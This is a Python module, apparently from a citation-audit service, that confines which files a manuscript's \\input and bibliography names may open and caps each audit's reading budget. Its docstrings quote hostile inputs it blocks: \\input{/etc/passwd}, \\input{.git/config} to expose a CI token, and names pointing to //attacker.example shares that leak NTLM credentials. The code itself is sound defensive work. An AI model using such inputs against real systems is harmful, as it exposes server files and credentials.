"""Which files an audit may open besides the ones it was given, and how much it may splice.

A manuscript names other files: ``\\input{...}``, ``\\bibliography{...}``, a Pandoc
``bibliography:`` field. On the author's own machine (the CLI) those are followed
wherever they point -- the author wrote them and can read those files anyway. An
uploaded audit is a stranger's text: ``\\input{/etc/passwd}`` must not put the server's
files into the report. So every place that opens a file named *inside* an input asks
one `InputScope`, built once at the edge and handed down: ``InputScope()`` follows any
path, ``InputScope.confined_to(folder)`` admits only paths that -- after ``..`` and
symbolic links are resolved -- lie inside the audit's own folder, and are not a second
name (a hard link) of a file that may lie anywhere.

While the service holds a stranger's files (`strangers_files`, entered by the one place
that writes uploads to disk), a scope without a root -- one some reader built for itself
because none was handed down, as the fix download's read-back check did -- follows no
name at all: the service cannot forget its confinement on a path nobody thought of.

A refusal reads the same whether the file exists or not, so the service cannot be used
to probe the server's disk. Operating-system errors on a named file (a name over 255
bytes, a permission) become a sentence, never a traceback.

One scope serves one audit, and carries that audit's budget: every reader of every file
of the audit draws on it, so twenty uploaded files do not get twenty budgets.

* Names: each file an input names (each ``\\input``, each ``\\bibliography`` name, each
  front-matter entry) is one look-up; past `max_names` the scope says so once and every
  later name is skipped unlooked-at -- a line of 200,000 ``\\input{x}`` would otherwise
  cost as many disk look-ups and as many problems.
* Splices: a few small files that include each other many times expand to gigabytes,
  so the inclusions and the text they add are counted, not only the nesting depth. A
  confined audit may splice no more than twice what its own folder holds (every file
  included once, some twice), however the files name each other.
* Text: every pass over a manuscript pays per line and per character, and each file
  is read to `DEFAULT_MAX_LINES` lines (a Word file to ten million characters, which
  a 70 KB .docx unpacks to) -- but an upload is twenty files, and a book's every
  chapter builds the whole book. So the lines and characters the audit's manuscripts
  hold are counted here, each file once: once the audit holds `max_lines` or
  `max_chars`, a file not read before is not read (`text_spent`). Twenty files of
  250,000 one-letter lines (10 MB), or twenty such .docx (1.4 MB), held a worker past
  its parse time limit.
"""

from __future__ import annotations

import errno
import os
import re
import stat
import unicodedata
from collections import deque
from collections.abc import Callable, Collection, Iterator, Mapping, Sequence
from contextlib import AbstractContextManager, contextmanager, nullcontext, suppress
from contextvars import ContextVar
from dataclasses import dataclass, field
from pathlib import Path

from citeaudit.bounded_read import file_kind, held_to

__all__ = [
    "DEFAULT_MAX_CHARS",
    "DEFAULT_MAX_LINES",
    "DEFAULT_MAX_NAMES",
    "DEFAULT_MAX_SPLICED_CHARS",
    "DEFAULT_MAX_SPLICES",
    "DEFAULT_MAX_XML_TAGS",
    "HOST_MAPS",
    "InputScope",
    "database_hazard",
    "foreign_file",
    "is_version_control",
    "journal_naming_a_file",
    "network_location",
    "planted_journal",
    "shown_name",
    "sqlite_hazard",
    "strangers_files",
    "trusted_owners",
]

DEFAULT_MAX_SPLICES = 1_000  # a long thesis has a few hundred \input files
DEFAULT_MAX_SPLICED_CHARS = 20_000_000  # text added by \input, on top of the main file
DEFAULT_MAX_NAMES = 2_000  # files named in all: every \input, .bib and front-matter entry
# Lines of manuscript text one audit reads, all its files together: one file's own cap
# (`reading.MAX_LINES`), more than a 2,000-page book holds.
DEFAULT_MAX_LINES = 250_000
# Characters of manuscript text one audit reads: as many as the largest text upload
# holds (20 MB); a 1,000-page thesis holds about three million.
DEFAULT_MAX_CHARS = 20_000_000
# XML tags the Word files of one audit may hand the parser, all together: each file's
# parts share `docx.MAX_PACKAGE_TAGS` (3,000,000), and twenty files of that in one upload
# (2 MB of them) were each parsed in turn -- their text, nothing, never charged.
DEFAULT_MAX_XML_TAGS = 6_000_000
_SPLICE_SLACK = 64 * 1024  # a confined audit's splice budget above twice its own files
_MOST_FILES_COUNTED = 10_000  # a folder with more is not summed: the default budget holds
_SHOWN_CHARS = 120
# The longest path the kernel opens (PATH_MAX, bytes): a longer name is no file. It is
# refused before symbolic links are resolved, which builds every prefix of the path in
# turn -- quadratic in its length: a 400 KB \input{a/a/a/...} name took 22 s.
_LONGEST_PATH = 4096
# Links one name may pass through (the kernel's own limit: ELOOP past 40), and the parts
# walked in all, links' targets included: more than any real name has.
_MOST_LINKS = 40
_MOST_STEPS = 8 * _LONGEST_PATH
_MOST_VETTED = 1_000  # names in a folder judged whole (`first_outside`): a cache holds a few
# Set while a stranger's upload is being read: an unconfined scope then follows no name.
_STRANGERS: ContextVar[bool] = ContextVar("citeaudit_strangers_files", default=False)


def network_location(name: str | os.PathLike[str]) -> bool:
    """Whether `name` names another machine's file as Windows reads it: two separators
    first -- a share (``\\\\host\\share``, ``//host/share``), WebDAV
    (``\\\\host@SSL\\x``), a device path (``\\\\.\\pipe\\x``, ``\\\\?\\UNC\\host``) --
    or the kernel's own prefix (``\\??\\UNC\\host``, passed through as written). Windows
    opens such a name by connecting to that host: merely asking whether it is a file
    sends the user's NTLM credentials to a server of the name's choosing.

    Why here: the command line without ``--confine`` follows a manuscript's names
    wherever they point (the author's own files), so an editor checking a submission
    with ``citeaudit check paper.md`` on Windows had ``bibliography:
    //attacker.example/s/refs.bib`` or ``\\input{//attacker.example/s/x}`` looked up
    over SMB (or WebDAV over HTTP) before "not found" came back. Judged as written, the
    same on every system: POSIX reads ``//x`` as ``/x``, but a manuscript naming a file
    so means a share, and its answer must not depend on where it is checked."""
    text = os.fsdecode(os.fspath(name))
    doubled = len(text) >= 2 and text[0] in "\\/" and text[1] in "\\/"
    return doubled or text.startswith("\\??\\")


_SEPARATORS = re.compile(r"[\\/]")  # Windows reads either as one


def _share_of(name: str | os.PathLike[str]) -> str | None:
    """The share (``host/share``, case-blind) a network location lies on; None for a
    name of this machine."""
    text = os.fsdecode(os.fspath(name))
    if not network_location(text):
        return None
    parts = [part for part in _SEPARATORS.split(text) if part]
    if parts[:1] in (["?"], ["."], ["??"]) and parts[1:2] and parts[1].casefold() == "unc":
        parts = parts[2:]
    return "/".join(parts[:2]).casefold()


# The automounter's hosts maps (macOS's /net; autofs's ``-hosts`` or ``auto.net`` map
# at /net and ``auto.smb`` at /smb on Linux): looking up ``/net/<host>/x`` mounts the
# exports of whatever host is named -- a name resolved, an NFS or SMB session opened.
HOST_MAPS: tuple[str, ...] = ("/net", "/smb")


def _on_another_machine(
    target: str, candidates: Sequence[Path], own_shares: Collection[str] = ()
) -> bool:
    """Whether the name `target` an input gives, or a place it is looked for, lies on
    another machine: a share not the run's own (``//host/s/x``, and a name joined to a
    folder the input gives as well: ``\\import{//host/s/}{chapter}``, knitr's
    ``here::here("//host/s/x.bib")``), or a host of an automounter's map that is not
    mounted now (``/net/host/x``). The run's own shares are its working folder's and
    those of the files it was given (`own_shares`): a manuscript kept in a network
    home folder names its chapters there. A host mounted already is the author's too."""
    try:
        here = os.getcwd()
    except (OSError, ValueError):
        here = ""
    own = {*own_shares, _share_of(here) if here else None}
    shares = [_share_of(target), *(_share_of(candidate) for candidate in candidates)]
    if any(share is not None and share not in own for share in shares):
        return True
    return bool(here) and any(_unmounted_host(candidate, here) for candidate in candidates)


def _unmounted_host(candidate: Path, here: str) -> bool:
    """Whether `candidate` (from the working folder `here`) leads under a host of a map
    in `HOST_MAPS` that the map does not list now -- listing a map's own folder mounts
    nothing; a name under it does.

    Walked as the system walks it, a link at a time (a project's ``l -> /net`` makes
    ``l/<host>/x`` such a name), each part looked at with ``lstat`` only: a host's part
    is first asked of the map's listing, and one the map does not list is never
    looked up."""
    if os.name == "nt":
        return False
    tops = {os.path.realpath(top) for top in HOST_MAPS if os.path.isdir(top)}
    if not tops:
        return False
    pending = deque(Path(here, candidate).parts)
    reached = Path(pending.popleft())  # the file system's root: `here` is absolute
    links = 0
    while pending:
        part = pending.popleft()
        if part in ("", "."):
            continue
        if part == "..":
            reached = reached.parent
            continue
        if str(reached) in tops:
            try:
                if part not in os.listdir(reached):
                    return True
            except OSError:
                return False
        step = reached / part  # a host mounted now is walked through as any folder
        try:
            status = os.lstat(step)
        except (OSError, ValueError):
            return False  # not there: nothing below it is looked up either
        if not stat.S_ISLNK(status.st_mode):
            reached = step
            continue
        links += 1
        if links > _MOST_LINKS:
            return False  # the system's own ELOOP: the look-up fails before any mount
        target = Path(os.readlink(step))
        if target.is_absolute():
            reached = Path(target.anchor)
        pending.extendleft(reversed(target.parts[1:] if target.is_absolute() else target.parts))
    return False


@contextmanager
def strangers_files(folder: Path | None = None) -> Iterator[None]:
    """Within this block, files are a stranger's: a scope without a root admits the files
    it is given but locates no file they name (``\\input``, ``\\bibliography``, a
    front-matter ``bibliography:``) -- a reader that forgot to ask for the audit's own
    confined scope fails closed instead of reading the server's disk.

    Given the `folder` they were written to, every read is held to it as well
    (`bounded_read.held_to`): a file is opened only inside it, and must be the file its
    name named when the scope judged it -- a name swapped for a link between the
    scope's check and the reader's open is refused at the open, and so is any name a
    reader opens without asking a scope at all."""
    token = _STRANGERS.set(True)
    try:
        if folder is None:
            yield
        else:
            with held_to(folder):
                yield
    finally:
        _STRANGERS.reset(token)


def shown_name(target: str) -> str:
    """A file name as written, shortened for a message (a hostile one may be kilobytes)."""
    flat = target.replace("\n", " ")
    return flat if len(flat) <= _SHOWN_CHARS else flat[: _SHOWN_CHARS - 1] + "…"


@dataclass(slots=True)
class _Ledger:
    """What one audit has drawn on its scope so far, shared by all its readers."""

    names: int = 0
    names_capped: bool = False
    splices: int = 0
    spliced_chars: int = 0
    lines: int = 0  # manuscript lines read, each file counted once
    chars: int = 0  # and their characters
    text_of: set[str] = field(default_factory=set)  # those files, by real path
    xml_tags: int = 0  # tags of the Word files' parts handed to the parser
    pdf_cpu_seconds: float = 0.0  # CPU the PDF engine's children spent on its PDFs
    # A name given many times (one file \input in every chapter) is looked up once.
    located: dict[tuple[str, str, tuple[Path, ...]], Path | str] = field(default_factory=dict)
    # The project's class and package files read so far (by real path), as the lines
    # the LaTeX reader keeps of them: every chapter loads the same class, read once.
    class_lines: dict[str, tuple[tuple[int, str], ...]] = field(default_factory=dict)
    # The network shares of the files the run was given (`InputScope.admits` without a
    # root): names of the inputs on them are the author's (`_on_another_machine`).
    own_shares: set[str] = field(default_factory=set)


@dataclass(frozen=True, slots=True)
class InputScope:
    """The policy for files an input names: where they may be, and how much is spliced.

    `root` None follows any path (the CLI); otherwise only paths inside `root` are read.
    One scope serves one audit: its ledger counts what every reader of it drew.
    """

    root: Path | None = None
    max_splices: int = DEFAULT_MAX_SPLICES
    max_spliced_chars: int = DEFAULT_MAX_SPLICED_CHARS
    max_names: int = DEFAULT_MAX_NAMES
    max_lines: int = DEFAULT_MAX_LINES
    max_chars: int = DEFAULT_MAX_CHARS
    # The uploads lie side by side, their folders stripped: ``\\input{chapters/intro}``
    # is also looked for as ``intro`` in the root, where the upload of that name lies.
    flat: bool = False
    # In a flat scope, the name an upload of a given base name was stored under (made
    # harmless: NFC, odd characters replaced), also looked up; None: only as written.
    stored_as: Callable[[str], str] | None = field(default=None, compare=False, repr=False)
    ledger: _Ledger = field(default_factory=_Ledger, init=False, compare=False, repr=False)

    @classmethod
    def confined_to(
        cls,
        folder: Path,
        *,
        flat: bool = False,
        stored_as: Callable[[str], str] | None = None,
        **limits: int,
    ) -> InputScope:
        """A scope that reads only inside `folder`, and splices at most twice what the
        folder holds (plus a little): the audit's files all included once, some twice.

        `flat`: the folder holds uploads under their base names only (a browser or
        ``curl -F`` sends no folder), so a name with folders is also looked up by its
        last part -- a LaTeX project's ``\\input{chapters/intro}`` finds ``intro.tex``.
        `stored_as`: the base name an upload of that name was stored under, looked up
        too -- ``\\input{chapter (1)}`` finds the upload stored as ``chapter _1_.tex``,
        an NFD ``capi\u0301tulo`` the NFC ``capítulo.tex``. Always a name in the root.
        """
        root = Path(os.path.realpath(folder))
        held = _folder_bytes(root)
        if held is not None and "max_spliced_chars" not in limits:
            limits["max_spliced_chars"] = min(DEFAULT_MAX_SPLICED_CHARS, 2 * held + _SPLICE_SLACK)
        return cls(root=root, flat=flat, stored_as=stored_as, **limits)

    @classmethod
    def fence(cls, folder: Path) -> InputScope:
        """A scope that only judges names -- inside `folder` or not, after ``..`` and
        links -- for a reader that must keep within a folder narrower than its audit's
        (a book's own folder), whose audit scope still locates and counts what is read.
        Its folder is not summed: it splices nothing."""
        return cls(root=Path(os.path.realpath(folder)))

    @property
    def confined(self) -> bool:
        return self.root is not None

    def held(self) -> AbstractContextManager[None]:
        """A block within which every file `bounded_read` opens must be this scope's
        own, checked at the open itself (`bounded_read.held_to`): a name changed after
        `admits` judged it is refused there. Without a root, nothing is held."""
        return held_to(self.root) if self.root is not None else nullcontext()

    @property
    def follows_names(self) -> bool:
        """Whether a name an input gives is looked up at all: not by a scope without a
        root while a stranger's files are read (`strangers_files`). A reader that goes
        looking for files nobody named (a book's build files in the folders above)
        asks this first, as `locate` does for every name."""
        return self.root is not None or not _STRANGERS.get()

    def admits(self, path: Path) -> bool:
        """Whether `path` may be opened: always without a root, else only inside it.

        The lexical check comes first, so ``/etc/passwd`` or ``../../x`` is refused without
        touching the disk. What stays inside lexically is then walked as the system opens
        it (`_resolved`): ``..`` is taken after the link before it, so ``link/../secret``
        with ``link -> /home/x/dir`` is ``/home/x/secret`` -- outside, however the text
        folds. A name whose walk leaves the root at any step is refused wherever it ends
        (``../probe/../root/x`` opens only if ``probe`` is a folder outside: admitted, it
        told whether one exists). A file with a second name (a hard link, whose other
        name may lie anywhere) is refused as a link out is.

        The root's version-control folder (``.git``, ``.hg``...) is not the audit's
        either, wherever a name's way enters it: a CI runner writes it, and keeps its
        token there (``actions/checkout``'s ``.git/config``, GitLab's remote URL) --
        ``\\input{.git/config}`` in a fork's ``thebibliography`` printed the token in
        the JSON and HTML reports.

        A relative `path` is judged from the working directory, where the system
        opens it -- not from the root: a library caller confined to ``Path("sub")``
        hands ``sub/../other/secret.bib`` over, which joined to the root read
        ``<root>/other/secret.bib`` (inside) while ``<cwd>/other/secret.bib`` was read.
        """
        if self.root is None:
            # Every name asked here without a root is one the run was given or one
            # `locate` has judged (`_on_another_machine`): a share it lies on is the
            # author's own, where its inputs name their chapters.
            share = _share_of(path)
            if share is not None:
                self.ledger.own_shares.add(share)
            return True
        try:
            written = Path(os.getcwd(), path)  # `path` itself when it is absolute
        except OSError:  # no working directory left: nothing relative can be judged
            return False
        lexical = Path(os.path.normpath(written))
        if not lexical.is_relative_to(self.root) or _too_long(written):
            return False
        try:
            resolved = _resolved(written, self.root)
        except (OSError, ValueError, RuntimeError):
            return False
        if resolved is None:  # its walk left the root: refused wherever it ends
            return False
        return (
            resolved.is_relative_to(self.root)
            and not _in_version_control(resolved, self.root)
            and not _hard_linked(resolved)
        )

    def first_outside(self, folder: Path) -> Path | None:
        """The first name under `folder` (itself included) this scope does not admit --
        a link out, a second name of a file -- or `folder` itself when it holds more than
        `_MOST_VETTED` names or cannot be listed; None when all of it is the folder's own
        (and always without a root).

        For a folder the run hands to code that opens its files without asking any
        scope -- SQLite opens and creates the cache's databases by name: a cache folder
        inside a stranger's checkout holding ``links.sqlite3 -> /home/runner/...``
        had the run read and write the runner's files. Links to folders are walked
        too (each name judged where it is opened); a loop of them ends at the cap. A
        file SQLite would follow a name in -- a rollback journal naming a super-journal
        (`journal_naming_a_file`) -- leads outside as a link does."""
        if self.root is None:
            return None
        if not self.admits(folder):
            return folder
        seen = 0
        pending = [folder]  # not `os.walk`: it recurses once per level on this Python
        while pending:
            top = pending.pop()
            try:
                entries = os.scandir(top)
            except OSError:
                if top == folder:
                    continue  # not there yet: the code that opens it will make it
                return folder  # a folder inside it that cannot be listed
            with entries:
                for found in entries:
                    seen += 1
                    entry = Path(found.path)
                    if seen > _MOST_VETTED:
                        return folder
                    if not self.admits(entry) or journal_naming_a_file(entry):
                        return entry
                    try:
                        if found.is_dir():  # a link to a folder too: each name is judged
                            pending.append(entry)
                    except OSError:
                        return folder
        return None

    def refusal(self, what: str, target: str) -> str:
        """The one sentence for a refused name: the same whether the file exists or not."""
        return f"{what} '{shown_name(target)}' is outside the audit's own files; not read"

    def network_refusal(self, what: str, target: str) -> str:
        """The one sentence for a name of another machine's file (`network_location`),
        never looked up: the same whether anything answers there or not."""
        return (
            f"{what} '{shown_name(target)}' names a file on another machine (a network "
            "share, a host the automounter would mount, a Windows device path); it is not "
            "looked up (a file of yours there: give it on the command line, or mount it first)"
        )

    @property
    def names_exhausted(self) -> bool:
        """Whether the audit is past its cap on named files (and was told so): a reader
        then skips every later name before building a single path for it."""
        return self.ledger.names_capped

    def locate(self, what: str, target: str, candidates: Sequence[Path]) -> Path | str | None:
        """The first candidate that is a readable file inside the scope, else why not;
        None once the audit has named more than `max_names` files.

        Each call is one name the input gives, counted on the audit's ledger; the first
        name past the cap gets the sentence that says so, and every later one None, so
        the reader skips it without a problem of its own.
        """
        ledger = self.ledger
        ledger.names += 1
        if ledger.names > self.max_names:
            if ledger.names_capped:
                return None
            ledger.names_capped = True
            return (
                f"{what} '{shown_name(target)}' and every file named after it not looked up: "
                f"the input names more than {self.max_names} files"
            )
        key = (what, target, tuple(candidates))
        if key not in ledger.located:
            ledger.located[key] = self._locate(what, target, candidates)
        return ledger.located[key]

    def _locate(self, what: str, target: str, candidates: Sequence[Path]) -> Path | str:
        """Candidates outside the scope are never looked at; when none inside exists and
        one was outside, the answer is the refusal, so the outcome depends only on the
        files the scope admits. An unconfined scope reading a stranger's files refuses
        every name unlooked-at (`strangers_files`)."""
        if not self.follows_names:
            return self.refusal(what, target)
        if not self.confined and _on_another_machine(target, candidates, self.ledger.own_shares):
            return self.network_refusal(what, target)
        refused = self.confined and Path(target).is_absolute()
        if not refused and candidates and all(_too_long(c) for c in candidates):
            why = os.strerror(errno.ENAMETOOLONG)
            return f"{what} '{shown_name(target)}' cannot be read: {why}"
        admitted: list[Path] = []
        if not refused:
            for candidate in self._flattened(candidates):
                if self.admits(candidate):
                    admitted.append(candidate)
                else:
                    refused = True
        odd: str | None = None  # /dev/zero, a FIFO: there, but never read (endless, blocking)
        for candidate in admitted:
            try:
                if candidate.is_file():
                    return candidate
                if odd is None and candidate.exists() and not candidate.is_dir():
                    odd = file_kind(candidate.stat().st_mode)
            except (OSError, ValueError) as exc:
                reason = getattr(exc, "strerror", None) or str(exc)
                return f"{what} '{shown_name(target)}' cannot be read: {reason}"
        if refused:
            return self.refusal(what, target)
        if odd is not None:
            return f"{what} '{shown_name(target)}' is {odd}, not a file; it is not read"
        return f"{what} '{shown_name(target)}' not found"

    def _flattened(self, candidates: Sequence[Path]) -> list[Path]:
        """The candidates, then (in a flat scope) each one's last part in the root, as
        written and as an upload of that name was stored (`stored_as`)."""
        if not self.flat or self.root is None:
            return list(candidates)
        flat: list[Path] = []
        for candidate in candidates:
            name = candidate.name
            if name in ("", ".", ".."):
                continue
            flat.append(self.root / name)
            stored = self.stored_as(name) if self.stored_as is not None else name
            if stored != name and _base_name(stored):
                flat.append(self.root / stored)
        return [*candidates, *dict.fromkeys(c for c in flat if c not in candidates)]

    def may_fit(self, size_bytes: int) -> bool:
        """Whether a file of `size_bytes` could still be spliced in, asked before it is
        read. No character the readers decode takes more than four bytes (an astral one
        in UTF-8, a CRLF in UTF-16), so a file over four times the characters left (and a
        BOM) cannot fit: ``\\input{/var/log/huge}`` on the CLI is refused unread, not
        read whole first."""
        left = max(self.max_spliced_chars - self.ledger.spliced_chars, 0)
        return size_bytes <= 4 * left + 4

    def take_splice(self, chars: int) -> bool:
        """Whether one more file of `chars` characters may be spliced in (counted if so)."""
        ledger = self.ledger
        if (
            ledger.splices >= self.max_splices
            or ledger.spliced_chars + chars > self.max_spliced_chars
        ):
            return False
        ledger.splices += 1
        ledger.spliced_chars += chars
        return True

    def text_spent(self, path: Path | str) -> bool:
        """Whether the audit holds its `max_lines` or `max_chars` already and `path`
        was not read before: it is then not read at all (a file read before -- a
        chapter another file splices in, given again -- costs nothing more)."""
        ledger = self.ledger
        spent = ledger.lines >= self.max_lines or ledger.chars >= self.max_chars
        return spent and _file_key(path) not in ledger.text_of

    def take_text(self, counts: Mapping[str, tuple[int, int]]) -> None:
        """Count the (lines, characters) a manuscript read holds, by the file each
        came from; a file counted before is not counted again."""
        ledger = self.ledger
        for name, (lines, chars) in counts.items():
            key = _file_key(name)
            if key not in ledger.text_of:
                ledger.text_of.add(key)
                ledger.lines += lines
                ledger.chars += chars

    def xml_tags_left(self) -> int:
        """Tags the audit's Word files may still hand the parser (`DEFAULT_MAX_XML_TAGS`
        in all): a package's parts are counted before any tree is built."""
        return max(DEFAULT_MAX_XML_TAGS - self.ledger.xml_tags, 0)

    def take_xml_tags(self, count: int) -> None:
        """Count tags a Word file's parts handed the parser."""
        self.ledger.xml_tags += count

    def pdf_cpu_left(self, allowance: float) -> float:
        """CPU seconds the audit's next PDF may still give the engine, of `allowance`
        for all its PDFs (`pdf_isolated.Limits.audit_cpu_seconds`)."""
        return max(allowance - self.ledger.pdf_cpu_seconds, 0.0)

    def take_pdf_cpu(self, seconds: float) -> None:
        """Count CPU seconds a PDF engine child spent."""
        self.ledger.pdf_cpu_seconds += seconds

    def text_refusal(self) -> str:
        """Why a file is not read once the audit holds its text."""
        ledger = self.ledger
        return (
            f"not read: the audit's other files already hold {ledger.lines:,} lines and "
            f"{ledger.chars:,} characters, past the {self.max_lines:,} lines or "
            f"{self.max_chars:,} characters one audit reads (more than any manuscript has)"
        )

    def splice_budget_spent(self) -> str:
        """What the audit's inclusions have already added, against the limits."""
        ledger = self.ledger
        return (
            f"the \\input files already add {ledger.spliced_chars} characters in "
            f"{ledger.splices} inclusions (limit {self.max_spliced_chars} characters, "
            f"{self.max_splices} inclusions)"
        )


def _resolved(written: Path, root: Path) -> Path | None:
    """Where the system takes the absolute name `written` when it opens it; None when
    its walk leaves `root` at any step after reaching it.

    Each part is looked up in the folder the parts before it reached, a symbolic link
    replaced by where it points, and only then ``..`` taken -- up from the link's target,
    not from the link's own folder. Folding ``..`` away as text first (as
    ``os.path.normpath`` does) judged ``link/../secret`` to be ``secret`` beside the
    link, while the file opened was the one beside the link's target.

    Once inside `root` the walk must stay there, step by step: ``../probe/../root/x``,
    ``link/../root/x`` with ``link -> /srv/probe``, or a link to
    ``/srv/probe/../../root/x`` end inside, but the system opens them only when
    ``/srv/probe`` is a folder -- read or "not found" told whether it exists. So a
    link's target is walked part by part from the link's folder (an absolute target
    from `root` when it is written under it, else it is out), its ``..`` included,
    and no answer depends on anything outside `root`. Before reaching `root` (the
    working folder's own path, a folder link above it) the walk goes as the system's,
    but only along the way to `root`: each folder reached must be one of `root`'s own
    (after links), or the name is refused -- ``probe/../sub/x`` from a library caller
    confined to ``sub`` opened only when ``probe`` was a folder ("not found" else),
    which told whether it exists. A part missing on that way is refused alike.

    Looked up only as far as the name exists: below a part that does not exist nothing
    does, so no link can lie there and the rest is joined as written (and folded; the
    system would not open it at all). ``os.path.realpath`` looks up every prefix of the
    path instead -- quadratic in its length: a name of 2,000 folders that do not exist
    (``\\input{a/a/a/…/x}``) cost n^2 characters of look-ups. Here each look-up is of
    a real folder's path plus one part, and ``.`` and ``..`` cost none; at most
    `_MOST_LINKS` links and `_MOST_STEPS` parts are walked (the system's own ELOOP).
    """
    parts = written.parts
    start = len(root.parts) if parts[: len(root.parts)] == root.parts else 1
    reached = Path(*parts[:start])  # `written` is absolute: at least the file system's root
    inside = reached.is_relative_to(root)
    pending = deque(parts[start:])
    links = steps = 0
    while pending:
        part = pending.popleft()
        steps += 1
        if steps > _MOST_STEPS:
            raise OSError(errno.ENAMETOOLONG, os.strerror(errno.ENAMETOOLONG))
        if part in ("", "."):
            continue
        if part == "..":
            reached = reached.parent
        else:
            step = reached / part
            try:
                status = os.lstat(step)
            except (FileNotFoundError, NotADirectoryError):
                if not inside:
                    return None  # off the way to `root`: nothing is missing on it
                rest = Path(os.path.normpath(step.joinpath(*pending)))
                return rest if rest.is_relative_to(root) else None
            if not stat.S_ISLNK(status.st_mode) and not _name_surrogate(status):
                reached = step
            elif not inside:
                reached = Path(os.path.realpath(step))
            elif not stat.S_ISLNK(status.st_mode):
                return None  # a junction inside: its target is not walked, it is refused
            else:
                links += 1
                if links > _MOST_LINKS:
                    raise OSError(errno.ELOOP, os.strerror(errno.ELOOP))
                target = Path(os.readlink(step))
                if target.is_absolute():
                    if target.parts[: len(root.parts)] != root.parts:
                        return None  # a link out, whatever it points at
                    reached, target = root, Path(*target.parts[len(root.parts) :])
                pending.extendleft(reversed(target.parts))
                continue
        if inside and not reached.is_relative_to(root):
            return None
        inside = inside or reached.is_relative_to(root)
        if not inside and not root.is_relative_to(reached):
            return None  # off the way to `root`: what lies there decided the answer
    return reached


# The bit of a Windows reparse tag that marks a name standing for another path (a
# directory junction, a mount point, a symbolic link).
_NAME_SURROGATE = 0x20000000


def _name_surrogate(status: os.stat_result) -> bool:
    """Whether `status` (of `os.lstat`) is a Windows junction or other reparse point that
    opens another path: Python gives a junction the mode of a folder, not of a link, so
    walked as a folder ``junction/secret`` was judged inside while the system opened the
    file wherever the junction points. There is no such thing elsewhere."""
    return bool(getattr(status, "st_reparse_tag", 0) & _NAME_SURROGATE)


def _base_name(name: str) -> bool:
    """Whether `name` is one name in a folder: no separator, not ``.`` or ``..``."""
    return bool(name) and name not in (".", "..") and "/" not in name and os.sep not in name


def _file_key(name: Path | str) -> str:
    """One file however it is spelled (``./a.tex``, ``sub/../a.tex``); a pseudo-file
    (``paper.docx#footnotes``) is its own name."""
    try:
        return os.path.realpath(name)
    except (OSError, ValueError):
        return str(name)


# Folders a version-control tool keeps in a checkout, written by the runner, not the
# author (Sapling keeps `.sl`; compared case-blind: on a case-blind disk ``.GIT`` is ``.git``).
_VERSION_CONTROL = frozenset({".git", ".hg", ".sl", ".svn", ".bzr", "_darcs", ".jj", ".pijul"})
# Code points HFS+ leaves out of a name when it compares names (git's `is_hfs_dotgit`):
# there ``.g\u200cit`` is ``.git``.
_IGNORED_BY_HFS = frozenset(
    "\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e"
    "\u206a\u206b\u206c\u206d\u206e\u206f\ufeff"
)
# Windows' 8.3 short names of the folders: ``GIT~1`` (the name's first six letters,
# "~" and a number), or, once several names share a start, two letters, four hex
# digits, "~" and a number (git's `is_ntfs_dot_generic`).
_SHORT_NAMES = tuple(
    re.compile(rf"(?:{re.escape(stem[:6])}|{re.escape(stem[:2])}[0-9a-f]{{4}})~[1-9][0-9]*")
    for stem in sorted({name.lstrip(".") for name in _VERSION_CONTROL})
)


def _as_opened(name: str) -> str:
    """The folder name a case-blind, Windows or HFS+ file system opens for `name`,
    casefolded: what follows a ``:`` is an NTFS stream of it (``.git::$INDEX_ALLOCATION``
    is the folder), trailing dots and spaces are dropped by Windows (``.git.``), and
    HFS+ ignores zero-width and direction marks. Compared upper-cased too: NTFS matches
    names by its table of capitals, where the dotless ``ı`` and the long ``ſ`` are ``I``
    and ``S`` (``.gıt`` is ``.GIT``), which case folding leaves apart."""
    name = name.split(":", 1)[0]
    if not name.isascii():
        name = unicodedata.normalize("NFC", "".join(c for c in name if c not in _IGNORED_BY_HFS))
        name = name.upper()
    return name.rstrip(". ").casefold()


def is_version_control(name: str) -> bool:
    """Whether a folder of this name is a version-control tool's, under any name a file
    system opens it by (`_as_opened`, and Windows' short names such as ``GIT~1``): a
    walk of a checkout (a book's chapters, `project_config`) lists nothing in it, and a
    confined scope admits nothing in it. A name only one system takes for it (``.git.``
    on Linux) is refused everywhere, as git refuses it: no real project uses one."""
    opened = _as_opened(name)
    return opened in _VERSION_CONTROL or any(short.fullmatch(opened) for short in _SHORT_NAMES)


def _in_version_control(resolved: Path, root: Path) -> bool:
    """Whether `resolved` (inside `root`, links resolved) lies in, or is, one of the
    checkout's version-control folders (or a ``.git`` file: a worktree's pointer)."""
    inner = resolved.parts[len(root.parts) :]
    return any(is_version_control(part) for part in inner)


def _too_long(path: Path) -> bool:
    """Whether `path` is longer than any the kernel opens (it cannot name a file)."""
    name = str(path)  # 4 bytes a character at most: only a long one is encoded
    return len(name) > _LONGEST_PATH // 4 and len(name.encode("utf-8", "replace")) > _LONGEST_PATH


def _hard_linked(path: Path) -> bool:
    """A regular file with more than one name: its other name may lie outside."""
    try:
        status = path.stat()
    except (OSError, ValueError):
        return False  # nothing there: the caller's look-up says "not found"
    return stat.S_ISREG(status.st_mode) and status.st_nlink > 1


def trusted_owners(folder: Path) -> frozenset[int] | None:
    """The users whose files found in `folder`'s project are taken as the author's: the
    user running, root, and the owner of `folder` (the manuscript's: run as root on a
    folder mounted from the host, the author is uid 1000). None where the system has no
    user ids (nothing is judged by owner there)."""
    if not hasattr(os, "getuid"):
        return None
    owners = {os.getuid(), os.geteuid(), 0}
    with suppress(OSError, ValueError):
        owners.add(os.stat(folder).st_uid)
    return frozenset(owners)


def foreign_file(path: Path, owners: frozenset[int] | None) -> str | None:
    """Why the file at `path` -- a configuration, baseline or build file found by
    looking, never one the user named -- may have been put there by someone other than
    `owners` (`trusted_owners`), or None: it is theirs.

    Judged by owner, as git judges a checkout (``safe.directory``): the name (a link
    another user owns is theirs, wherever it leads) and the file it leads to. In a
    sticky folder (``/tmp``) no one else may rename or remove the owner's file, and a
    file put into a folder anyone may write to is owned by whoever put it there. A
    ``/tmp/citeaudit.toml`` another user left was the editor's configuration for every
    submission checked below ``/tmp``: its ``ignore`` silenced the audit, its
    ``baseline`` had ``--write-baseline`` overwrite the file it named. The mode is not
    judged: GitLab's Docker executor checks a project out world-writable (umask 0000),
    and its own ``citeaudit.toml`` would be passed over."""
    if owners is None:
        return None
    try:
        named, real = os.lstat(path), os.stat(path)
    except (OSError, ValueError) as exc:
        return f"{path.name} cannot be looked at ({getattr(exc, 'strerror', None) or exc})"
    for facts, what in ((named, path.name), (real, f"the file {path.name} leads to")):
        if facts.st_uid not in owners:
            return f"{what} belongs to another user (uid {facts.st_uid})"
    return None


